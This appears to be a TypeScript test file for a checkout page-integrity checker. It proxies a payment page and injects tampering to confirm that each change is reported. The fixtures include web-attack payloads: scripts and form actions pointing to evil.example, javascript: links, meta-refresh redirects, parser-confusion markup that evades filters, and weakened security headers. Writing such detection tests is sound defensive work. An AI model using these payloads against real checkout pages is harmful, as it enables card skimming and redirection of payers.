/** `page check` finds every alteration between a gateway and its payers. */
import { createServer, type IncomingHttpHeaders, request, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readInventory } from '../../src/back-office/page-integrity/index.ts';
import { newOrderId, PUBLIC_HOST, type Rig, startRig } from '../api/rest/rig.ts';
import { turnpike } from './turnpike.ts';

interface Passing {
  readonly path: string;
  headers: IncomingHttpHeaders;
  body: string;
}

type Alter = (passing: Passing) => void;

let rig: Rig;
let proxy: Server;
let link: string;
let alter: Alter = () => undefined;

/** A proxy before the gateway that alters the responses. */
function startProxy(port: () => number): Server {
  return createServer((incoming, outgoing) => {
    const headers = { ...incoming.headers, host: PUBLIC_HOST, 'accept-encoding': 'identity' };
    const sent = request({ host: '127.0.0.1', port: port(), path: incoming.url, method: incoming.method, headers });
    sent.on('response', async (answer) => {
      const chunks: Buffer[] = [];
      for await (const chunk of answer) {
        chunks.push(chunk as Buffer);
      }
      const { 'content-length': _length, 'transfer-encoding': _chunked, ...kept } = answer.headers;
      const passing = { path: incoming.url ?? '', headers: kept, body: Buffer.concat(chunks).toString('utf8') };
      alter(passing);
      outgoing.writeHead(answer.statusCode ?? 0, passing.headers).end(passing.body);
    });
    incoming.pipe(sent);
  });
}

beforeAll(async () => {
  rig = await startRig();
  proxy = startProxy(() => rig.app.port);
  await new Promise<void>((done) => proxy.listen(0, '127.0.0.1', done));
  const { json } = await rig.api('POST', '/session', {
    apiOperation: 'INITIATE_CHECKOUT',
    interaction: { operation: 'PURCHASE' },
    order: { id: newOrderId(), amount: '10.00', currency: 'EUR' },
  });
  link = `http://127.0.0.1:${(proxy.address() as AddressInfo).port}/checkout/pay/${json.session.id}`;
});
afterAll(async () => {
  proxy.closeAllConnections();
  await new Promise((done) => proxy.close(done));
  await rig.close();
});

const check = async (change: Alter = () => undefined, ...args: string[]) => {
  alter = change;
  return turnpike(rig.folder, ['page', 'check', link, ...args]);
};
const isPage = ({ path }: Passing) => path.startsWith('/checkout/');
const inPage =
  (before: string | RegExp, after: string): Alter =>
  (passing) => {
    if (isPage(passing)) {
      const changed = passing.body.replace(before, after);
      // An alteration without an effect could not be found.
      if (changed === passing.body && passing.body.includes('pay-form')) {
        throw new Error(`There is no ${before} in the page.`);
      }
      passing.body = changed;
    }
  };
const header =
  (name: string, value: string | undefined): Alter =>
  (passing) => {
    if (isPage(passing)) {
      const { [name]: _before, ...others } = passing.headers;
      passing.headers = value === undefined ? others : { ...others, [name]: value };
    }
  };
const policy =
  (before: string, after: string): Alter =>
  (passing) => {
    const { 'content-security-policy': sent } = passing.headers;
    if (isPage(passing) && typeof sent === 'string') {
      passing.headers = { ...passing.headers, 'content-security-policy': sent.replace(before, after) };
    }
  };
const form = readInventory().scripts.find(({ name }) => name === 'FormScript')?.address ?? '';

it('page check accepts pages and scripts of this release, with the payment form and without', async () => {
  const { code, out } = await check();
  expect(
    out
      .trimEnd()
      .split('\n')
      .filter((line) => !line.startsWith('well')),
  ).toEqual([
    `${readInventory().scripts.filter(({ address }) => address !== null).length + 2} well, 0 doubtful, 0 will fail.`,
  ]);
  expect(code).toBe(0);
  expect(out).not.toContain('SESSION');
  expect(out).toMatch(/^well {7}AuthenticationScript {2,}It is as this release has it\.$/m);
  const report = JSON.parse((await check(undefined, '--json')).out);
  expect(report).toMatchObject({ origin: new URL(link).origin, level: 'WELL' });
});

const EVIL = 'https://evil.example';

/** The alteration, its code, and its line in the report. */
const ALTERATIONS: readonly (readonly [string, Alter, string])[] = [
  [
    'one byte of a script',
    (passing) => {
      if (passing.path === form) {
        passing.body = `${passing.body.slice(0, -1)} `;
      }
    },
    'its content is sha256-',
  ],
  [
    'a script that is added',
    inPage('</body>', '<script src="https://evil.example/a.js"></script></body>'),
    'is not in the inventory',
  ],
  ['a script in the page', inPage('</head>', '<script>alert(1)</script></head>'), 'is not in the inventory'],
  ['a script that is taken away', inPage(/<script[^>]*><\/script>/g, ''), 'the form is without its script'],
  ['a policy that is taken away', header('content-security-policy', undefined), 'Content-Security-Policy is missing'],
  ['a policy that lets scripts in', policy("script-src 'self'", "script-src 'self' 'unsafe-inline'"), 'script-src is'],
  ['a policy that lets others in', policy("connect-src 'self'", 'connect-src *'), 'connect-src is *'],
  ['a policy that lets itself be framed', policy("frame-ancestors 'none'; ", ''), 'frame-ancestors is missing'],
  [
    'a policy without Trusted Types',
    policy("require-trusted-types-for 'script'; ", ''),
    'require-trusted-types-for is missing',
  ],
  [
    'a handler in an element',
    inPage('<button type="submit"', '<button type="submit" onclick="alert(1)"'),
    'has the attribute onclick',
  ],
  [
    'a form that goes elsewhere',
    inPage(/action="\/checkout\/pay/, 'action="https://evil.example/pay'),
    'has action="https://evil.example',
  ],
  [
    'a button that sends elsewhere',
    inPage('<button type="submit"', '<button type="submit" formaction="//evil.example"'),
    'formaction="//evil.example"',
  ],
  ['a frame', inPage('</main>', '<iframe src="https://evil.example"></iframe></main>'), '<iframe> is in the page'],
  ['a base address', inPage('<head>', '<head><base href="https://evil.example/">'), '<base> is in the page'],
  [
    'a picture of another origin',
    inPage('</main>', '<img src="https://evil.example/p.gif"></main>'),
    'has src="https://evil.example',
  ],
  ['a style', inPage('</head>', '<style>.safety{display:none}</style></head>'), 'a style of 21 characters is not'],
  [
    'a style sheet',
    inPage('</head>', '<link rel="stylesheet" href="https://evil.example/a.css"></head>'),
    'has href="https://evil.example',
  ],
  ['a link that is script', inPage('</main>', '<a href="javascript:alert(1)">x</a></main>'), 'has href="javascript:'],
  [
    'a page that leads on',
    inPage('</head>', '<meta http-equiv="refresh" content="0;url=https://evil.example"></head>'),
    'leads on to https://evil.example',
  ],
  // A browser ends each of these at its first `>`, and continues after it.
  ...[
    ['<!-->', '-->'],
    ['<!--->', '-->'],
    ['<!--x--!>', '-->'],
    ['<![CDATA[>', ']]>'],
    ['<?x >', '?>'],
    ['</ >', '</p>'],
    ['</>', '</p>'],
  ].map(
    ([before, after]) =>
      [
        `a page that leads on behind ${before}`,
        inPage('</head>', `${before}<meta http-equiv="refresh" content="0;url=https://evil.example">${after}</head>`),
        'a comment or a declaration is in the page',
      ] as const,
  ),
  // A parser that reads quotes, `&` or `<` differently from a browser takes the element here for text or a value.
  ...[
    '<#',
    '&#',
    '<p a/=">#<p x=">',
    '<p a"=">#<p x=">',
    '<title><p a="</title>#"></title>',
    '<textarea><p a="</textarea>#"></textarea>',
    '<p <style></style>#>',
  ].map(
    (around) =>
      [
        `a page that leads on within ${around}`,
        inPage('</head>', `${around.replace('#', `<meta http-equiv="refresh" content="0;url=${EVIL}">`)}</head>`),
        around.startsWith('&') ? `leads on to ${EVIL}` : 'is markup that no page of this release has',
      ] as const,
  ),
  ...[
    `0; ${EVIL}`,
    `0 ${EVIL}`,
    `0,${EVIL}`,
    `.5;'${EVIL}'x`,
    `0; URL = '${EVIL}'x`,
    `0; url=&quot;${EVIL}`,
    '0; url=//evil.example',
  ].map(
    (content) =>
      [
        `a page that leads on by ${content}`,
        inPage('</head>', `<meta content="${content}" http-equiv="refresh"></head>`),
        'leads on to ',
      ] as const,
  ),
  [
    'a page that leads on by an entity',
    inPage('</head>', '<meta http-equiv="refresh" content="0;url=https&colon;//evil.example"></head>'),
    'is markup that no page of this release has',
  ],
  [
    'a link that is script by a line in it',
    inPage('</main>', '<a href="java\nscript:alert(1)">x</a></main>'),
    'has href="java',
  ],
  [
    'a picture of another origin among its sizes',
    inPage('</main>', '<img srcset="/p.gif 1x, https://evil.example/p.gif 2x"></main>'),
    '<img> has the attribute srcset',
  ],
  ['a handler in a style', inPage('<style>', '<style onload="alert(1)">'), 'has the attribute onload'],
  [
    'a page of many beginnings, at once',
    (passing) => {
      if (isPage(passing)) {
        passing.body = '<'.repeat(900_000);
      }
    },
    'is markup that no page of this release has',
  ],
  ['a page without its document type', inPage(/<!doctype html>/i, ''), 'the page does not begin with <!DOCTYPE html>'],
  ['a comment', inPage('</head>', '<!-- x --></head>'), 'a comment or a declaration is in the page'],
  [
    'another document type',
    inPage(/<!doctype html>/i, '<!DOCTYPE html SYSTEM "x">'),
    'a comment or a declaration is in',
  ],
  ['a second document type', inPage('</head>', '<!DOCTYPE html></head>'), 'a comment or a declaration is in the page'],
  [
    'a policy of the markup',
    inPage('</head>', '<meta http-equiv="Content-Security-Policy" content="x"></head>'),
    '<meta http-equiv=',
  ],
  ['a header that is taken away', header('x-content-type-options', undefined), 'X-Content-Type-Options is missing'],
  ['a page that may be kept', header('cache-control', 'public, max-age=60'), 'Cache-Control is public, max-age=60'],
  ['a header that lets others read', header('access-control-allow-origin', '*'), 'access-control-allow-origin is *'],
  ['a header that loads more', header('link', '<https://evil.example/a.js>; rel=preload'), 'link is '],
  ['another type', header('content-type', 'text/html'), 'Content-Type is text/html, not'],
];

describe('finds', () => {
  it.each(ALTERATIONS)('%s', async (_name, change, says) => {
    const { code, out } = await check(change);
    expect(out.split('\n').filter((line) => line.startsWith('WILL FAIL') && line.includes(says))).not.toEqual([]);
    expect(code).toBe(1);
  });

  it('a gateway that does not answer', async () => {
    const { code, out } = await turnpike(rig.folder, ['page', 'check', 'http://127.0.0.1:1/checkout/pay/X']);
    expect(code).toBe(1);
    expect(out).toContain('no answer: ');
  });
});

it('page check accepts only an address', async () => {
  for (const args of [['nowhere'], ['ftp://x'], ['http://a', 'http://b'], ['--what']]) {
    expect((await turnpike(rig.folder, ['page', 'check', ...args])).code).toBe(2);
  }
});

describe('a wallet’s script', () => {
  const [google] = readInventory().otherScripts;
  /** Only the page of the form has the button; the page of an unknown checkout keeps the strict policy. */
  const withScript =
    (address: string, headers: Readonly<Record<string, string>> = {}): Alter =>
    (passing) => {
      if (passing.body.includes(' id="pay-form"')) {
        passing.body = passing.body.replace(' id="pay-form"', ` id="pay-form" data-script="${address}"`);
        const lower = Object.entries(headers).map(([name, value]) => [name.toLowerCase(), value]);
        passing.headers = { ...passing.headers, ...Object.fromEntries(lower) };
      }
    };

  it('that the inventory lists is no difference, with the policy for it', async () => {
    const ran = await check(withScript(google?.address ?? '', google?.headers));
    expect(ran.out).not.toMatch(/differs|not /);
    expect(ran.code).toBe(0);
  });

  it('needs that policy', async () => {
    const ran = await check(withScript(google?.address ?? ''));
    expect(ran.code).toBe(1);
    expect(ran.out).toContain('script-src');
  });

  it('of another address is a difference', async () => {
    const ran = await check(withScript('https://attacker.example/pay.js', google?.headers));
    expect(ran.code).toBe(1);
    expect(ran.out).toContain('it loads the script https://attacker.example/pay.js');
  });

  it('gives no page without it a wider policy', async () => {
    const ran = await check((passing) => {
      if (isPage(passing)) {
        passing.headers = { ...passing.headers, 'content-security-policy': google?.headers['Content-Security-Policy'] };
      }
    });
    expect(ran.code).toBe(1);
  });
});
